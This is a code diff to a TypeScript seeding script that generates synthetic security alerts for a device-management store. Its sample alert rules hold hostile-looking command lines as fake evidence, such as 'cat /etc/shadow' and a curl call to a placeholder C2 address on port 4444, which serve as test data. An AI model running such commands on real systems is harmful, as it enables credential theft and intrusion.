@@ -43,6 +43,8 @@ export interface SeedOptions {
   now?: Date;
   /** The server's actionExpirySeconds (default 3 days): active actions are made to expire after `now`. */
   actionExpirySeconds?: number;
+  /** Alerts spread over the devices (default none); devices' risk then follows their open alerts. */
+  alerts?: number;
 }
 
 export interface SeedResult {
@@ -55,6 +57,9 @@ export interface SeedResult {
   actionsByStatus: Record<string, number>;
   actionsByType: Record<string, number>;
   devicesByIsolationState: Record<string, number>;
+  alerts: number;
+  /** Alerts by `severity/status`, as `$filter=severity eq … and status eq …` counts them. */
+  alertsBySeverityStatus: Record<string, number>;
   /** Machine ids in insertion order (the first is a handy device to open). */
   machineIds: string[];
   seconds: number;
@@ -96,6 +101,26 @@ const RISK = [
   { v: 'Low', w: 30 },
   { v: 'Medium', w: 22 },
   { v: 'High', w: 13 },
+] as const;
+const ALERT_SEVERITIES = [
+  { v: 'Informational', w: 20 },
+  { v: 'Low', w: 35 },
+  { v: 'Medium', w: 30 },
+  { v: 'High', w: 15 },
+] as const;
+const ALERT_STATUSES = [
+  { v: 'New', w: 40 },
+  { v: 'InProgress', w: 15 },
+  { v: 'Resolved', w: 45 },
+] as const;
+const ALERT_RULES = [
+  { title: 'Read sensitive file untrusted', category: 'CredentialAccess', source: 'Falco', mitre: ['T1555'], command: 'cat /etc/shadow' },
+  { title: 'Terminal shell in container', category: 'Execution', source: 'Falco', mitre: ['T1059'], command: 'bash' },
+  { title: 'Outbound Connection to C2 Servers', category: 'CommandAndControl', source: 'Falco', mitre: ['T1071'], command: 'curl -s http://203.0.113.50:4444/x' },
+  { title: 'Write below binary dir', category: 'Persistence', source: 'Falco', mitre: ['T1543'], command: 'cp x /usr/bin/sshd2' },
+  { title: 'Linux.Coinminer.XMRig', category: 'Malware', source: 'Antivirus', mitre: ['T1496'], command: '/tmp/.x/xmrig' },
+  { title: 'Blocked untrusted program', category: 'Execution', source: 'ExecutionControl', mitre: [], command: '/dev/shm/.k' },
+  { title: 'Brute force from one address', category: 'CredentialAccess', source: 'Custom', mitre: ['T1110'], command: 'sshd: root [priv]' },
 ] as const;
 const EXPOSURE = [
   { v: 'None', w: 15 },
@@ -539,11 +564,55 @@ export async function seedStore(dataDir: string, opts: SeedOptions): Promise<See
     });
   }
 
+  // --- alerts: the queue, and devices' risk from their open ones ---
+  const alertRows: Insertable<Database['alerts']>[] = [];
+  const alertsBySeverityStatus: Record<string, number> = {};
+  const highestOpen = new Map<string, number>();
+  for (let i = 0; i < (opts.alerts ?? 0); i++) {
+    // A few devices draw most alerts (the noisy ones), as in a real queue.
+    const d = devices[r.chance(0.3) ? r.int(0, Math.max(0, Math.floor(devices.length / 20) - 1)) : r.int(0, devices.length - 1)]!;
+    const severity = r.weighted(ALERT_SEVERITIES).v;
+    const status = r.weighted(ALERT_STATUSES).v;
+    const rule = r.pick(ALERT_RULES);
+    const created = now - r.next() * 30 * DAY;
+    const rank = ['Informational', 'Low', 'Medium', 'High'].indexOf(severity) + 1;
+    if (status !== 'Resolved') highestOpen.set(d.id, Math.max(highestOpen.get(d.id) ?? 0, rank));
+    alertsBySeverityStatus[`${severity}/${status}`] = (alertsBySeverityStatus[`${severity}/${status}`] ?? 0) + 1;
+    alertRows.push({
+      id: randomUUID(),
+      source_key: `seed:${i}:${r.hex(8)}`,
+      machine_id: d.id,
+      computer_dns_name: d.name,
+      host_key: d.name.toLowerCase(),
+      title: rule.title,
+      description: `${rule.title} on ${d.name} (user=${r.pick(['root', 'www-data', 'postgres', 'deploy'])} pid=${r.int(300, 99_999)})`,
+      severity,
+      severity_rank: rank,
+      status,
+      classification: status === 'Resolved' ? r.pick(['TruePositive', 'FalsePositive', 'InformationalExpectedActivity']) : null,
+      determination: null,
+      assigned_to: status === 'New' ? null : r.weighted(REQUESTORS).v,
+      category: rule.category,
+      detection_source: rule.source,
+      threat_name: null,
+      mitre_techniques: JSON.stringify(rule.mitre),
+      evidence: JSON.stringify([{ entityType: 'Process', processId: r.int(300, 99_999), processCommandLine: rule.command, accountName: 'root' }]),
+      event_count: r.chance(0.8) ? 1 : r.int(2, 40),
+      first_event_time: iso(created - r.int(0, 60_000)),
+      last_event_time: iso(created),
+      alert_creation_time: iso(created),
+      last_update_time: iso(created + (status === 'New' ? 0 : r.int(60_000, DAY))),
+      resolved_time: status === 'Resolved' ? iso(created + r.int(60_000, DAY)) : null,
+      created_by: rule.source === 'Falco' ? 'falco' : rule.source === 'Custom' ? 'siem' : 'agent',
+    });
+  }
+  if (opts.alerts) for (const m of machineRows) m.risk_score = ['None', 'Informational', 'Low', 'Medium', 'High'][highestOpen.get(m.id!) ?? 0]!;
+
   // Audit ids follow time, as they would in a live store (the audit log lists by id).
   audit.sort((a, b) => (a.time < b.time ? -1 : a.time > b.time ? 1 : 0));
   // Indexes are built once after the load (a sort) instead of row by row (random b-tree inserts):
   // several times faster. Their definitions come from the migrated store itself.
-  const tables = ['machines', 'machine_tags', 'machine_ips', 'actions', 'timeline', 'audit_log'];
+  const tables = ['machines', 'machine_tags', 'machine_ips', 'actions', 'timeline', 'audit_log', 'alerts'];
   const indexes = db.prepare(`select name, sql from sqlite_master where type = 'index' and sql is not null and tbl_name in (${tables.map(() => '?').join(', ')})`).all(...tables) as { name: string; sql: string }[];
   db.transaction(() => {
     for (const ix of indexes) db.exec(`drop index "${ix.name}"`);
@@ -552,6 +621,7 @@ export async function seedStore(dataDir: string, opts: SeedOptions): Promise<See
     for (const ip of ipRows) insert('machine_ips', ip);
     for (const a of actionRows) insert('actions', a);
     for (const e of timeline) insert('timeline', e);
+    for (const a of alertRows) insert('alerts', a);
     // Chained as the server would have written them, so `cordon audit verify` holds on a seeded store.
     const chained = chainRecords(db.prepare('select seq, hash from audit_chain where id = 1').get() as { seq: number; hash: string }, audit);
     for (const row of chained.rows) insert('audit_log', row);
@@ -572,6 +642,8 @@ export async function seedStore(dataDir: string, opts: SeedOptions): Promise<See
     actionsByStatus,
     actionsByType,
     devicesByIsolationState,
+    alerts: alertRows.length,
+    alertsBySeverityStatus,
     machineIds: devices.map((d) => d.id),
     seconds: (performance.now() - t0) / 1000,
   };
